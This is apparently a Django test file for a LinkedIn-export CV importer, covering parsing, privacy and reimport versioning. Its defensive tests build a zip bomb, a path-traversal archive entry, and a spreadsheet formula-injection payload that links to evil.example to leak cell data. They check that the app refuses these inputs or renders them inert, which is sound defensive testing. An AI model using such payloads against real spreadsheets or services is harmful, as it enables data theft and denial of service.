from __future__ import annotations

import io
import json
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.urls import reverse

from materials.actions import do_import_linkedin, do_update_text
from materials.linkedin import normalise_date, read_export
from materials.models import Chunk, LinkedInImport, Material
from materials.tests.linkedin.exports import (
    SECRET_MESSAGE,
    UNRELATED,
    csv_file,
    english_export,
    export_zip,
    positions,
    profile,
)
from omoikane.errors import Refused
from omoikane.testing import BaseTestCase
from privacy_kernel.audit import Actor
from privacy_kernel.events import Event
from privacy_kernel.models import AuditEvent

ACTOR = Actor.system("test")


def upload(content: bytes, name: str = "Basic_LinkedInDataExport_12-07-2026.zip") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content, content_type="application/zip")


class ReadExportTests(BaseTestCase):
    def test_it_reads_every_career_section_into_cv_markdown(self) -> None:
        export = read_export(english_export())
        self.assertTrue(export.text.startswith("# Alice Andersen\nBackend engineer · Oslo, Norway\n"))
        self.assertIn("### Senior Backend Engineer — Fjordpay AS (2021-01 –) · Oslo", export.text)
        self.assertIn("- Rebuilt the card-settlement pipeline in Python and Django.", export.text)
        for heading in (
            "Experience",
            "Education",
            "Skills",
            "Languages",
            "Certifications",
            "Projects",
            "Honours and awards",
            "Volunteering",
            "Courses",
        ):
            self.assertIn(f"\n## {heading}\n", export.text)
        self.assertEqual(len(export.files_read), 10)

    def test_it_keeps_the_file_row_and_column_of_every_value(self) -> None:
        fields = read_export(english_export()).fields
        title = next(f for f in fields if f.value == "Backend Engineer")
        self.assertEqual((title.file, title.row, title.column), ("Positions.csv", 2, "Title"))

    def test_it_never_reads_columns_outside_the_career_ones(self) -> None:
        export = read_export(english_export())
        values = json.dumps([f.as_json() for f in export.fields])
        for private in ("Storgata", "Mar 3, 1990", "0155", "X1"):  # address, birth date, zip, licence number
            self.assertNotIn(private, values)
            self.assertNotIn(private, export.text)

    def test_it_reads_dates_in_several_languages(self) -> None:
        cases = {
            "Jan 2021": "2021-01",
            "mrt. 2021": "2021-03",
            "Mär 2021": "2021-03",
            "mai 2021": "2021-05",
            "okt. 2019": "2019-10",
            "des 2020": "2020-12",
            "2018": "2018",
            "2020-07-01": "2020-07",
            "someday": "someday",
        }
        self.assertEqual({raw: normalise_date(raw) for raw in cases}, cases)

    def test_it_reads_dutch_german_and_norwegian_profiles(self) -> None:
        for first, title, description, started, expected in (
            ("Anouk", "Ontwikkelaar", "Bouwde het betaalplatform in Python.", "mrt. 2019", "2019-03"),
            ("Jonas", "Softwareentwickler", "Entwickelte die Zahlungsplattform.", "Mär 2019", "2019-03"),
            ("Kari", "Utvikler", "Bygde betalingsplattformen i Python.", "mai 2019", "2019-05"),
        ):
            export = read_export(
                export_zip(
                    {
                        "Profile.csv": profile(first=first),
                        "Positions.csv": positions([("Firma", title, description, started, "")]),
                    }
                )
            )
            self.assertIn(f"### {title} — Firma ({expected} –)", export.text)
            self.assertIn(f"- {description}", export.text)

    def test_it_reads_a_profile_with_25_positions(self) -> None:
        rows = [
            (f"Company {n}", f"Engineer {n}", f"Shipped release {n}.", f"Jan {1990 + n}", f"Dec {1990 + n}")
            for n in range(25)
        ]
        export = read_export(export_zip({"Profile.csv": profile(), "Positions.csv": positions(rows)}))
        self.assertEqual(export.text.count("\n### "), 25)
        self.assertIn("### Engineer 24 — Company 24 (2014-01 – 2014-12)", export.text)

    def test_it_leaves_out_empty_sections(self) -> None:
        export = read_export(
            export_zip(
                {
                    "Profile.csv": profile(summary=""),
                    "Positions.csv": positions([]),
                    "Skills.csv": csv_file(["Name"], []),
                    "Education.csv": b"",
                }
            )
        )
        self.assertEqual(export.text, "# Alice Andersen\nBackend engineer · Oslo, Norway\n")

    def test_it_tolerates_a_notes_preamble_missing_columns_no_bom_and_a_folder(self) -> None:
        older = csv_file(
            ["Company Name", "Title", "Started On"],
            [["Fjordpay", "Engineer", "Jan 2021"]],
            bom=False,
            notes=True,
        )
        export = read_export(export_zip({"Positions.csv": older}, folder="Basic_LinkedInDataExport/"))
        self.assertIn("### Engineer — Fjordpay (2021-01 –)", export.text)

    def test_it_keeps_a_quoted_multi_line_description(self) -> None:
        export = read_export(
            export_zip(
                {
                    "Positions.csv": positions(
                        [
                            (
                                "Fjordpay",
                                "Engineer",
                                'Led the "ledger" team,\nwith five people.',
                                "Jan 2021",
                                "",
                            )
                        ]
                    )
                }
            )
        )
        self.assertIn('- Led the "ledger" team,\n- with five people.', export.text)

    def test_it_refuses_a_zip_that_is_not_a_linkedin_export(self) -> None:
        with self.assertRaises(Refused) as caught:
            read_export(export_zip({"cv.docx": b"PK", "notes.txt": b"hello"}))
        self.assertEqual(caught.exception.code, "not_linkedin")
        self.assertIn("Get a copy of your data", caught.exception.message)

    def test_it_refuses_a_zip_bomb_with_linkedin_file_names(self) -> None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("Profile.csv", profile())
            archive.writestr("Positions.csv", b"Company Name,Title\n" + b"a" * (30 * 1024**2))
        with self.assertRaises(Refused) as caught:
            read_export(out.getvalue())
        self.assertEqual(caught.exception.code, "archive_limits")

    def test_it_refuses_path_names_that_leave_the_archive(self) -> None:
        with self.assertRaises(Refused) as caught:
            read_export(export_zip({"../Profile.csv": profile()}))
        self.assertEqual(caught.exception.code, "archive_limits")

    def test_it_refuses_a_csv_that_is_not_utf8(self) -> None:
        with self.assertRaises(Refused) as caught:
            read_export(export_zip({"Profile.csv": "First Name,Last Name\nSøren,Ålund\n".encode("latin-1")}))
        self.assertEqual(caught.exception.code, "text_encoding")


class ImportPageTests(BaseTestCase):
    url = reverse("materials:linkedin_import")

    def setUp(self) -> None:
        super().setUp()
        self.client.force_login(self.alice)

    def test_it_imports_an_export_as_the_primary_cv_and_says_what_it_read(self) -> None:
        response = self.client.post(self.url, {"file": upload(english_export(extra=UNRELATED))}, follow=True)
        material = Material.objects.get(user=self.alice)
        self.assertEqual((material.kind, material.title, material.is_primary), ("cv", "Alice Andersen", True))
        self.assertFalse(material.original)  # the zip, with its messages, is never kept
        self.assertTrue(material.chunks.filter(text__contains="card-settlement pipeline").exists())
        self.assertContains(response, "Imported from LinkedIn on")
        self.assertContains(response, "Positions.csv")
        self.assertContains(response, "5 other files left out unread.")
        event = AuditEvent.objects.get(event=Event.MATERIAL_LINKEDIN_IMPORTED)
        self.assertEqual(event.metadata["files_left_out"], 5)

    def test_it_stores_and_records_nothing_from_the_ignored_files(self) -> None:
        self.client.post(self.url, {"file": upload(english_export(extra=UNRELATED))})
        with connection.cursor() as cursor:
            for table in connection.introspection.table_names(cursor):
                quoted = connection.ops.quote_name(table)
                cursor.execute(f"SELECT * FROM {quoted}")  # noqa: S608 - table names come from the database
                dump = repr(cursor.fetchall())
                self.assertNotIn(SECRET_MESSAGE, dump, table)
                self.assertNotIn("bob@example.com", dump, table)
                self.assertNotIn("messages.csv", dump, table)

    def test_it_keeps_a_formula_cell_as_inert_text(self) -> None:
        formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        zipped = export_zip(
            {"Profile.csv": profile(headline=formula), "Skills.csv": csv_file(["Name"], [[formula]])}
        )
        response = self.client.post(self.url, {"file": upload(zipped)}, follow=True)
        material = Material.objects.get(user=self.alice)
        self.assertIn(f"- {formula}", material.text)
        self.assertNotContains(response, '<a href="http://evil.example')
        self.assertContains(
            response, "=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;)"
        )

    def test_it_shows_the_import_form_on_the_materials_page(self) -> None:
        response = self.client.get(reverse("materials:list"))
        self.assertContains(response, "Import your LinkedIn profile")
        self.assertContains(response, "Profile.csv, Positions.csv")
        self.assertContains(response, "messages, connections, invitations")

    def test_it_refuses_a_zip_that_is_not_an_export_with_nothing_stored(self) -> None:
        response = self.client.post(self.url, {"file": upload(export_zip({"readme.txt": b"hi"}))})
        self.assertContains(response, "not a LinkedIn data export", status_code=400)
        self.assertFalse(Material.objects.exists())
        self.assertFalse(LinkedInImport.objects.exists())
        self.assertFalse(AuditEvent.objects.filter(event=Event.MATERIAL_LINKEDIN_IMPORTED).exists())

    def test_it_refuses_a_file_that_is_not_a_zip(self) -> None:
        response = self.client.post(self.url, {"file": upload(b"First Name\nAlice\n", "Profile.csv")})
        self.assertEqual(response.status_code, 400)
        self.assertFalse(Material.objects.exists())

    def test_it_checks_ownership_of_a_reimport(self) -> None:
        material = do_import_linkedin(self.alice, english_export(), actor=ACTOR)
        self.client.force_login(self.charlie)
        url = reverse("materials:linkedin_reimport", args=[material.pk])
        self.assertEqual(self.client.post(url, {"file": upload(english_export())}).status_code, 404)
        choose = reverse("materials:linkedin_choose", args=[material.pk])
        self.assertEqual(self.client.post(choose, {"choice": "import"}).status_code, 404)


def newer_export() -> bytes:
    return export_zip(
        {
            "Profile.csv": profile(headline="Staff engineer"),
            "Positions.csv": positions(
                [("Fjordpay AS", "Staff Engineer", "Leads the ledger team.", "Jan 2024", "")]
            ),
        }
    )


class ReimportTests(BaseTestCase):
    def setUp(self) -> None:
        super().setUp()
        self.client.force_login(self.alice)
        self.material = do_import_linkedin(self.alice, english_export(), actor=ACTOR)
        self.url = reverse("materials:linkedin_reimport", args=[self.material.pk])

    def test_it_updates_an_uncorrected_import_as_a_new_version(self) -> None:
        self.client.post(self.url, {"file": upload(newer_export())})
        self.material.refresh_from_db()
        self.assertEqual(self.material.version, 2)
        self.assertIn("### Staff Engineer — Fjordpay AS (2024-01 –)", self.material.text)
        self.assertEqual(self.material.text, self.material.extracted_text)
        self.assertTrue(Chunk.objects.filter(material=self.material, text__contains="ledger team").exists())
        self.assertEqual(Material.objects.count(), 1)

    def test_it_never_overwrites_the_users_correction_and_shows_the_differences(self) -> None:
        corrected = self.material.text.replace("Backend engineer · Oslo", "Backend engineer · Bergen")
        do_update_text(self.material, corrected, actor=ACTOR)
        response = self.client.post(self.url, {"file": upload(newer_export())}, follow=True)
        self.material.refresh_from_db()
        self.assertEqual((self.material.text, self.material.version), (corrected, 2))
        self.assertContains(response, "A newer export differs from your corrected text")
        self.assertContains(response, "+### Staff Engineer — Fjordpay AS (2024-01 –)")
        self.assertContains(response, "-Backend engineer · Bergen")

        self.client.post(reverse("materials:linkedin_choose", args=[self.material.pk]), {"choice": "mine"})
        self.material.refresh_from_db()
        self.assertEqual((self.material.text, self.material.version), (corrected, 2))
        self.assertFalse(LinkedInImport.objects.get().pending_text)

    def test_it_takes_the_new_export_when_the_user_chooses_it(self) -> None:
        do_update_text(self.material, self.material.text + "\n- Added by hand.\n", actor=ACTOR)
        self.client.post(self.url, {"file": upload(newer_export())})
        self.client.post(reverse("materials:linkedin_choose", args=[self.material.pk]), {"choice": "import"})
        self.material.refresh_from_db()
        self.assertEqual(self.material.version, 3)
        self.assertIn("Staff Engineer", self.material.text)
        self.assertTrue(AuditEvent.objects.filter(event=Event.MATERIAL_LINKEDIN_CHOSEN).exists())
        held = LinkedInImport.objects.get()
        self.assertTrue(any(f["value"] == "Staff Engineer" for f in held.fields))

    def test_it_refuses_a_bad_reimport_and_keeps_the_material(self) -> None:
        response = self.client.post(self.url, {"file": upload(b"not a zip")})
        self.assertEqual(response.status_code, 400)
        self.material.refresh_from_db()
        self.assertEqual(self.material.version, 1)
